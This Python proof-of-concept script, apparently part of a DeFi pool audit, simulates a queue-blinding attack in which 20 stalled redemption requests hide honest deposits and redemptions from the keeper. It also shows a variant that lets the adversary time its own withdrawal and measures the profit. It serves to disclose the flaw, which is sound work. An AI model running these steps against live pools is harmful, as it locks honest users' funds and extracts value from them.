"""A2 - blinding the keeper's LP queue with 20 waiting requests.

keeper/lp.py `LpQueue.due` reads at most `lp_requests_per_scan` (20 by default) request
slots starting at the oldest pending id, and its cursor only moves past *executed*
requests. A request that cannot execute (a redemption above the free cash) stays pending
and keeps its slot. 20 of them at the head of the queue hide every later request from the
keeper forever (no further reads), including deposits and redemptions that are
executable. The keeper's code is run unchanged here, against the in-process pool, through
a tiny `call()` adapter; "keeper scan" = `due(now)` then execute each due id (reverting
ones are skipped, as `Sender.submit_execute`'s simulation does).

Set-up: A1's book; the adversary (also a trader) holds a strangle that keeps the free cash
near 0 and makes 20 redemption requests each slightly above it (cost: the strangle's
spread and theta only; the escrowed shares come back at execution). An honest LP then asks
to deposit and another to redeem a small amount that fits the free cash.
"""

import boa

from common import addr, approve_pool, fmt, open_vault, standard_book, try_call
from keeper.lp import LpQueue


from common import BoaChain  # noqa: E402


def keeper_scan(proto, queue):
    now = boa.env.evm.patch.timestamp
    due = queue.due(now)
    executed = []
    for rid in due:
        ok, _ = try_call(lambda: proto.pool.execute_request(rid, sender=addr("keeper")))
        if ok:
            executed.append(rid)
    return due, executed


proto, adv, trader = standard_book()
pool = proto.pool
queue = LpQueue(BoaChain(), pool.address)  # limit 20, the default
adv_trader = addr("adversary_trader")
proto.fund(adv_trader, proto.units(5_000_000))

# the lock: free cash close to 0 (sized to leave ~2,000 units)
need = (pool.free_cash() / 10**6 - 2_000)
n = int(need * 5 / 4000)
lock = open_vault(proto, adv_trader, [(2400, True, n), (1600, False, n)], 700_000)
free = pool.free_cash()
print(f"lock: long {n} x 2400C + {n} x 1600P; free cash now {fmt(proto, free)}")

# 20 stalled redemptions, each worth a little more than the free cash
per = pool.convertToShares(free) + pool.convertToShares(proto.units(500))
stalled = []
for _ in range(20):
    with boa.env.prank(adv):
        stalled.append(pool.request_redeem(per, adv))
print(f"adversary: 20 redemption requests of {per / 1e6:,.2f} shares "
      f"(~{fmt(proto, pool.convertToAssets(per))} each), ids {stalled[0]}..{stalled[-1]}")

# honest requests behind them
h1, h2 = addr("honest_depositor"), proto.lp
proto.token.mint(h1, proto.units(100_000))
approve_pool(proto, h1)
with boa.env.prank(h1):
    dep = pool.request_deposit(proto.units(100_000), h1)
with boa.env.prank(h2):
    red = pool.request_redeem(pool.convertToShares(proto.units(1_000)), h2)
print(f"honest deposit request {dep} (100,000), honest redemption request {red} (~1,000)")

for hours in (1, 2, 6, 24):
    boa.env.time_travel(seconds=3600 if hours == 1 else (hours - prev) * 3600)
    prev = hours
    due, executed = keeper_scan(proto, queue)
    with boa.env.anchor():
        d_ok, _ = try_call(lambda: pool.execute_request(dep))
    with boa.env.anchor():
        r_ok, _ = try_call(lambda: pool.execute_request(red))
    print(f"t+{hours:>2} h: keeper due ids {due[:3]}..({len(due)}), executed {executed}; "
          f"cursor {queue.cursor}; honest deposit executable={d_ok} pending={pool.requests(dep).mature != 0}; "
          f"honest redemption executable={r_ok} pending={pool.requests(red).mature != 0}")

print(f"after 24 h: pending_assets (the honest depositor's money, outside the pool) "
      f"{fmt(proto, pool.pending_assets())}")
from common import close, wallet  # noqa: E402

with boa.env.anchor():
    w = wallet(proto, adv_trader)
    close(proto, adv_trader, lock)
    print(f"cost of holding the lock 25 h (spread in/out + theta): "
          f"{fmt(proto, proto.units(5_000_000) - wallet(proto, adv_trader))}")
# control: the same keeper with only 19 stalled requests reaches them
with boa.env.anchor():
    # execute one stalled request by freeing 600 units of cash (a small donation) - then 19 left
    proto.token.mint(pool.address, proto.units(600))
    try_call(lambda: pool.execute_request(stalled[0]))
    q2 = LpQueue(BoaChain(), pool.address)
    keeper_scan(proto, q2)  # first scan moves the cursor past the executed id 0
    due, executed = keeper_scan(proto, q2)
    print(f"control (19 stalled): keeper due {len(due)}, executed {executed}")

# variant B - no lock at all: 20 one-base-unit redemptions quoted at 1 unit while the share
# price is >= 1.0 stall with "pool: zero assets" whenever it falls below 1.0 (any loss
# since launch), for as long as it stays there. Cost: 20 base units of shares + gas.
# Behind them: the adversary's own redemption of its whole stake. Benchmark: the same
# request with no stalls in front (the keeper executes it at maturity), same price path:
#   request -> within the hour spot 2100 (share price < 1) -> maturity -> +24 h spot 2040
#   (partial recovery, still < 1) -> +48 h a spot +15 % report is pending: the adversary
#   executes its hidden request just before it.
from common import ETH, WAD, value  # noqa: E402


def variant_b(stalls):
    proto, adv, trader = standard_book()
    pool = proto.pool
    queue = LpQueue(BoaChain(), pool.address)
    tiny = [pool.request_redeem(1, adv, sender=adv) for _ in range(20)] if stalls else []
    with boa.env.prank(proto.lp):
        red = pool.request_redeem(pool.convertToShares(proto.units(1_000)), proto.lp)
    adv_shares = pool.balanceOf(adv)
    big = pool.request_redeem(adv_shares, adv, sender=adv)
    w0 = proto.token.balanceOf(adv)
    h0 = proto.token.balanceOf(proto.lp)
    quoted = pool.requests(big).quoted
    proto.oracle.set_price(ETH, 2100 * WAD)
    price = pool.convertToAssets(10**12) / 1e12
    log = []
    done = []
    for hour in range(1, 49):  # the keeper scans every 10 minutes
        if hour == 24:
            proto.oracle.set_price(ETH, 2040 * WAD)
        for _ in range(6):
            boa.env.time_travel(seconds=600)
            due, executed = keeper_scan(proto, queue)
            done += executed
        if hour in (1, 24, 48):
            log.append(f"t+{hour} h: executed so far {len(done)} ({'incl.' if big in done else 'not'} the adversary's)")
    why0 = try_call(lambda: pool.execute_request(tiny[0]))[1] if tiny else "-"
    pend_honest = pool.requests(red).mature != 0
    ok, paid = try_call(lambda: pool.execute_request(big, sender=adv))  # before the report
    proto.oracle.set_price(ETH, 2300 * WAD)
    pnl = proto.token.balanceOf(adv) - w0 + value(proto, adv)
    honest = proto.token.balanceOf(proto.lp) - h0 + value(proto, proto.lp) + (pool.convertToAssets(pool.requests(red).amount) if pool.requests(red).mature else 0)
    print(f"  [{'20 stalls' if stalls else 'no stalls'}] quoted {fmt(proto, quoted)}; share price after the "
          f"first report {price:.6f}; " + "; ".join(log))
    print(f"     tiny request: {why0}; honest redemption still pending at +48 h: {pend_honest}; adversary "
          f"executes before the +15 % report: ok={ok}; adversary proceeds {fmt(proto, pnl)}; honest LP "
          f"ends {fmt(proto, honest)}")
    return pnl, honest


print("\nvariant B: 20 redemptions of 1 base unit of shares; the share price falls below 1")
a, ha = variant_b(stalls=False)
b, hb = variant_b(stalls=True)
print(f"  GAIN of the stalls over the keeper's execution at maturity: {(b - a) / 1e6:,.2f} "
      f"(honest LP {(hb - ha) / 1e6:+,.2f}); cost: 20 base units of shares + ~3.1 M gas")
